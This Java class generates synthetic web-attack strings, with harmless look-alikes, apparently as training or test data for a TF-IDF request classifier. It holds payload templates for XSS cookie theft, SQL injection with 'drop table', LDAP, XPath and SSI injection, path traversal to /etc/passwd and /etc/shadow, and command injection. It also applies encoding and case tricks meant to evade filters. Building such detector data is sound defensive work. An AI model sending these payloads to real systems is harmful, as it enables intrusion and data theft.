package io.iostrata.jobs.tfidf;

import java.util.EnumMap;
import java.util.Locale;
import java.util.Map;

/**
 * Texts that look like attacks, and can do nothing: no such program, table or address exists. In
 * them {@code W} is a word, {@code N} a number, {@code U} a text of its own.
 */
final class Payloads {
  private static final Map<RequestClass, String[]> PATTERNS = new EnumMap<>(RequestClass.class);
  // What people write who search, comment or program, and what has nothing to do with attacks.
  private static final String[] HARMLESS = {
    "select W from the W list or W",
    "how to <b>W</b> a script && W",
    "../W/N.html",
    "W's \"W\" = N; W",
    "union of W and W where N > N",
    "cat W | sort | W -N",
    "(W=N)(W=*)",
    "//W/W[N]",
    "<!-- W -->",
    "W/../W.php?include=W",
    "alert: drop W by N%",
    "user or admin, and '' is N"
  };

  static {
    PATTERNS.put(
        RequestClass.XSS,
        new String[] {
          "<script>alert('W')</script>",
          "\"><script src=http://U.invalid/W.js></script>",
          "<img src=x onerror=alert(N)>",
          "<body onload=document.write('W')>",
          "javascript:alert(document.cookie)",
          "<iframe src=\"http://U.invalid/W\">"
        });
    PATTERNS.put(
        RequestClass.SQL_INJECTION,
        new String[] {
          "' or N=N --",
          "'; drop table W; --",
          "N union select W,W,N from W",
          "' and W like '%W%' --",
          "N; insert into W values ('W', N)",
          "' having N=N group by W --"
        });
    PATTERNS.put(
        RequestClass.LDAP_INJECTION,
        new String[] {
          "*)(uid=*))(|(uid=*",
          "W)(|(password=*)",
          "*)(objectClass=*)",
          "(&(cn=W)(userPassword=W*))",
          "W*)(mail=*@W",
          "(|(cn=*)(sn=W*))"
        });
    PATTERNS.put(
        RequestClass.XPATH_INJECTION,
        new String[] {
          "' or 'N'='N",
          "'] | //user/*[contains(*,'W",
          "' or count(parent::*)=N or 'W'='",
          "//W[position()=N]/child::node()",
          "' and substring(name(/*[N]),N,N)='W",
          "W' or string-length(//W)>N or 'W'='W"
        });
    PATTERNS.put(
        RequestClass.PATH_TRANSVERSAL,
        new String[] {
          "../../../../etc/passwd",
          "..\\..\\..\\winnt\\system32\\W.ini",
          "../../../W/../etc/shadow",
          "....//....//W/boot.ini",
          "/W/../../../var/log/W.log",
          "file:///etc/hosts"
        });
    PATTERNS.put(
        RequestClass.OS_COMMANDING,
        new String[] {
          "; cat /etc/passwd",
          "| ping -n N U.invalid",
          "`id`; W",
          "&& dir c:\\W",
          "| /bin/ls -l /W",
          "; rm -f /tmp/W; cmd.exe /c W"
        });
    PATTERNS.put(
        RequestClass.SSI,
        new String[] {
          "<!--#exec cmd=\"/bin/W\"-->",
          "<!--#include virtual=\"/etc/W\"-->",
          "<!--#echo var=\"document_W\"-->",
          "<!--#include file=\"../W.conf\"-->",
          "<!--#printenv -->",
          "<!--#config timefmt=\"W\" --><!--#echo var=\"date_W\"-->"
        });
  }

  private final Words words;

  Payloads(Words words) {
    this.words = words;
  }

  /** Some attack of this class, disguised in one of several ways; one line. */
  String attack(RequestClass of) {
    String payload = filled(words.of(PATTERNS.get(of)));
    switch (words.below(8)) {
      case 0:
        return escaped(payload, 1); // all of it
      case 1:
        return escaped(payload, 0.4);
      case 2:
        return escaped(escaped(payload, 0), 0); // twice
      case 3:
        return mixedCase(payload);
      case 4:
        return payload.replace(" ", words.of("/**/", "+", "%09"));
      case 5:
        return payload;
      default:
        return escaped(payload, 0);
    }
  }

  /** What a valid request may have and an attack has, too. */
  String harmless() {
    String text = filled(words.of(HARMLESS));
    return words.chance(0.6) ? escaped(text, 0) : text;
  }

  private String filled(String pattern) {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < pattern.length(); i++) {
      text.append(filled(pattern, i));
    }
    return text.toString();
  }

  private String filled(String pattern, int at) {
    char one = pattern.charAt(at);
    switch (one) {
      case 'W':
        return words.shared();
      case 'U':
        return words.unique(8);
      case 'N':
        return Integer.toString(words.below(100));
      default:
        return String.valueOf(one);
    }
  }

  /** Percent-encodes what is no letter or digit, and this share of the others. */
  private String escaped(String text, double others) {
    StringBuilder out = new StringBuilder();
    for (char one : text.toCharArray()) {
      if (!Character.isLetterOrDigit(one) || words.chance(others)) {
        out.append(String.format(Locale.ROOT, "%%%02x", (int) one));
      } else {
        out.append(one);
      }
    }
    return out.toString();
  }

  private String mixedCase(String text) {
    StringBuilder out = new StringBuilder();
    for (char one : text.toCharArray()) {
      out.append(words.chance(0.5) ? Character.toUpperCase(one) : one);
    }
    return out.toString();
  }
}
